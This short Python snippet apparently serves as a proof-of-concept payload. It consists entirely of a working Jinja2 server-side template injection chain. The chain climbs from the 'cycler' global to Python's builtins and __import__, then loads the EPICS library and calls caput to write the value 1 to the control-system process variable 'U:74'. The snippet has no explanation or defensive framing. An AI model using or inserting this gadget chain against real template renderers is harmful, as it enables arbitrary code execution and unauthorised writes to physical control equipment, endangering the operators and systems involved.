import jinja2

jinja2.Template("{{ cycler.__init__.__globals__.__builtins__.__import__('epics')"
                ".caput('U:74', 1) }}").render()
